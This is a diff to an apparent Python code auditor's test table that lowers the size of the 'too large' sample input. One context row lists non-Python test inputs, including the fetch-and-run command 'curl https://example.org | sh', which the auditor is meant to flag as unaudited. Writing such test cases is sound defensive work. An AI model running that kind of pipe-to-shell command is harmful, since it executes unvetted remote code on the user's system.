@@ -75,7 +75,7 @@ CODE_TABLE: tuple[CodeRow, ...] = (
     _row("too_deep", _MEDIUM, "is nested too deep to be parsed: not audited",
          ("(" * 300 + "1" + ")" * 300, "+".join("1" * 9000)), ("+".join("1" * 90), "((((1))))")),
     _row("too_large", _MEDIUM, "is too large to be audited",
-         ("x = 1\n" * 200_000,), ("x = 1\n" * 200,)),
+         ("x = 1\n" * 50_000,), ("x = 1\n" * 200,)),
     _row("unaudited", _MEDIUM, "is no Python: not audited, which is not clean",
          ("#!/bin/sh\nid", "curl https://example.org | sh", "const a = require('fs')"), ("import json", "x = 1")),
 )  # fmt: skip
